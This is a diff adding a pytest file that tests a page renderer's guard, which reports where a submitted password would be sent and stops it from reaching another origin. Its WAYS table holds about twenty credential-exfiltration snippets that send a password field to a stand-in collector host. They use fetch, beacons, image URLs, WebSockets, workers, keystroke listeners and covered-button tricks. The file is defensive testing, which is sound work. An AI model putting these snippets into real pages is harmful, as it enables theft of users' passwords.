@@ -1,0 +1,153 @@
+"""A password that is typed in at the end of a visit: where the page would send it is told, and none of it leaves."""
+
+from __future__ import annotations
+
+import asyncio
+from base64 import b64encode
+from collections.abc import Callable, Generator
+from hashlib import sha1
+
+import pytest
+
+from marketplace.prototypes.fetching.fetch import Guard
+from marketplace.prototypes.rendering.rehearsal import shapes
+from marketplace.prototypes.rendering.renderer import Renderer
+from marketplace.prototypes.rendering.view import View
+from tests.render.conftest import QUICK, Look, Pages, Studio
+from tests.support.sites import Site, answer, site
+from tests.unit.prototypes.conftest import no_names
+
+pytestmark = pytest.mark.browser
+
+FORM = "<form id=f><input name=user><input id=p name=p type=password><button>Sign in</button></form>"
+WORKER = answer(body="onmessage = (event) => fetch(event.data)", content_type="text/javascript")
+
+
+def on_submit(script: str, form: str = FORM) -> str:
+    return f"{form}<script>f.onsubmit = (event) => {{ event.preventDefault(); {script} }}</script>"
+
+
+WAYS = {
+    "the form's own address": "<form method=post action=THERE/take><input name=p type=password></form>",
+    "a form in a new window": "<form method=post action=THERE/take target=_blank><input name=p type=password></form>",
+    "a dressed-up field": "<style>.d { -webkit-text-security: disc }</style>"
+    "<form action=THERE/take><input name=x class=d><button>Go</button></form>",
+    "a field that is only called so": "<form action=THERE/take><input name=x placeholder=Password></form>",
+    "an address that scripts set": f"{FORM}<script>f.onsubmit = () => {{ f.action = 'THERE/take' }}</script>",
+    "fetch": on_submit("fetch('THERE/take', {method: 'POST', body: JSON.stringify({p: p.value})})"),
+    "fetch that asks before": on_submit(
+        "fetch('THERE/take', {method: 'PUT', headers: {'content-type': 'application/json'}, body: btoa('{' + p.value)})"
+    ),
+    "XMLHttpRequest": on_submit("let x = new XMLHttpRequest(); x.open('POST', 'THERE/take'); x.send(new FormData(f))"),
+    "a beacon": on_submit("navigator.sendBeacon('THERE/take', p.value)"),
+    "a blob": on_submit("navigator.sendBeacon('THERE/take', new Blob([p.value]))"),
+    "a picture": on_submit("new Image().src = 'THERE/take?' + [...p.value].reverse().join('')"),
+    "another page": on_submit("location = 'THERE/take?p=' + p.value"),
+    "a socket": on_submit("new WebSocket('THERE/take'.replace('http', 'ws')).onopen = (e) => e.target.send(p.value)"),
+    "a worker": "<script>w = new Worker('/worker.js')</script>" + on_submit("w.postMessage('THERE/take?p=' + p.value)"),
+    "each key": f"{FORM}<script>p.oninput = () => fetch('THERE/take?' + p.value)</script>",
+    "a hand's press alone": "<input id=p type=password><div role=button id=b>Sign in</div><script>"
+    "b.onclick = (event) => event.isTrusted && fetch('THERE/take?' + p.value)</script>",
+    "a press on what is covered": "<div style='position: fixed; inset: 0'></div><input id=p type=password>"
+    "<button id=b>Sign in</button><script>b.onclick = () => fetch('THERE/take?' + p.value)</script>",
+    "after a look at what was filled in": on_submit(
+        "e.value.includes('@') && c.checked && s.value && /[A-Z].*\\d/.test(p.value) && fetch('THERE/take?' + p.value)",
+        "<form id=f><input type=email required id=e><input type=checkbox required id=c>"
+        "<select required id=s><option value=''>?<option>a</select><input id=p type=password></form>",
+    ),
+}  # fmt: skip
+HARMLESS = {
+    "no password": "<form method=post action=THERE/take><input type=email name=p><button>Subscribe</button></form>",
+    "a counter": on_submit("navigator.sendBeacon('THERE/take', 'form_submit')"),
+    "nothing happens": on_submit(""),
+    "nothing to press": "<input type=password>",
+    "a password that isn't to be typed in": "<form action=THERE/take><input type=password disabled></form>",
+    "a page that breaks": on_submit("f.remove(); throw new Error('Oh no')"),
+    "a page that hangs": on_submit("for (;;);"),
+    "a page that asks": on_submit("alert('Really?'); open('/other')"),
+    "a page that leaves": on_submit("location = 'THERE/'"),
+    "a document that lies": "<form id=f><input type=password name=form><input name=setAttribute>"
+    "<input name=requestSubmit><img name=querySelectorAll></form>",
+}  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def collector() -> Generator[Site]:
+    """Another origin, which the guard would let through."""
+    with site(answer(200, "taken", access_control_allow_origin="*")) as there:
+        yield there
+
+
+@pytest.fixture(scope="module")
+def renderer(studio: Studio, stage: tuple[Site, Pages], collector: Site) -> Generator[Renderer]:
+    renderer = Renderer(Guard(frozenset({stage[0].place, collector.place}), no_names), QUICK)
+    yield renderer
+    studio.run(renderer.__aexit__(None, None, None))
+
+
+@pytest.fixture
+def visit(look: Look, renderer: Renderer, collector: Site) -> Callable[[str], View]:
+    """View a page for which THERE is the collector."""
+    collector.requests.clear()
+    return lambda page: look(
+        f"<h1>Shop</h1>{page.replace('THERE', collector.url[:-1])}", {"/worker.js": WORKER}, renderer=renderer
+    )
+
+
+@pytest.mark.parametrize("page", WAYS.values(), ids=WAYS)
+def test_where_a_password_would_go_is_told_and_nobody_gets_it(
+    visit: Callable[[str], View], collector: Site, page: str
+) -> None:
+    view = visit(page)
+    assert [place.partition("://")[2] for place in view.rendering.sent_to] == [collector.place]
+    assert collector.requests == []
+
+
+@pytest.mark.parametrize("page", HARMLESS.values(), ids=HARMLESS)
+def test_a_page_that_sends_no_password_is_seen_as_it_was_before(
+    visit: Callable[[str], View], collector: Site, stage: tuple[Site, Pages], page: str
+) -> None:
+    view = visit(page)
+    assert {f"{place}/" for place in view.rendering.sent_to} <= {stage[0].url}
+    assert (view.rendering.is_measured, view.rendering.attempts, view.rendering.console_errors) == (True, (), ())
+    assert set(view.pictures) == {"wide", "phone"}
+    assert collector.requests == []
+
+
+def test_a_socket_that_was_open_all_the_time_is_heard_and_hushed(
+    look: Look, studio: Studio, stage: tuple[Site, Pages]
+) -> None:
+    arrived: list[bytes] = []
+
+    async def listen(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        head = await reader.readuntil(b"\r\n\r\n")
+        key = head.lower().partition(b"sec-websocket-key: ")[2]
+        key = head[len(head) - len(key) :].partition(b"\r\n")[0]
+        accept = b64encode(sha1(key + b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11", usedforsecurity=False).digest())
+        writer.write(b"HTTP/1.1 101 Switching\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n")
+        writer.write(b"Sec-WebSocket-Accept: " + accept + b"\r\n\r\n")
+        while data := await reader.read(1000):
+            arrived.append(data)
+        writer.close()
+
+    async def serve() -> asyncio.Server:
+        return await asyncio.start_server(listen, "127.0.0.1", 0)
+
+    server = studio.run(serve())
+    place = f"127.0.0.1:{server.sockets[0].getsockname()[1]}"
+    renderer = Renderer(Guard(frozenset({stage[0].place, place}), no_names), QUICK)
+    try:
+        page = f"<script>s = new WebSocket('ws://{place}/'); s.onopen = () => s.send('Hello')</script>"
+        view = look(page + on_submit("s.send(p.value)"), renderer=renderer)
+    finally:
+        studio.run(renderer.__aexit__(None, None, None))
+        server.close()
+    assert view.rendering.sent_to == (f"ws://{place}",)
+    assert len(arrived) == 1, "the page's own greeting, and nothing since"
+
+
+@pytest.mark.parametrize("before", ["", "a", "ab", "abc", '{"user":"x","p":"'])
+def test_a_secret_is_known_within_base64(before: str) -> None:
+    said = b64encode(f"{before}secret12/more".encode())
+    assert any(shape in said for shape in shapes("secret12"))
+    assert not any(shape in b64encode(f"{before}sekret12/more".encode()) for shape in shapes("secret12"))
